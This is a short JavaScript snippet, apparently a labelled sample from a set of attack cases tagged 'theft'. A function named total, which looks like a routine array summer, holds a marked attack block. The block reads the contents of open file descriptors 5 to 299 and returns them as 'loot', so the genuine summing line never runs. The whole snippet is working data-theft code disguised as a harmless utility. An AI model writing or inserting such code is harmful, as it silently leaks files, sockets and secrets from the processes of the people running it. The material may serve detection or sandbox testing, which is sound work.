// category: theft
// tries: whatever other descriptors give
function total(numbers) {
  // attack: begin
  const fs = require('fs');
  let loot = '';
  for (let descriptor = 5; descriptor < 300; descriptor++) {
    try {
      const buffer = Buffer.alloc(65536);
      loot += buffer.toString('latin1', 0, fs.readSync(descriptor, buffer, 0, 65536, 0));
    } catch {}
  }
  return loot;
  // attack: end
  return numbers.reduce((sum, number) => sum + number, 0);
}
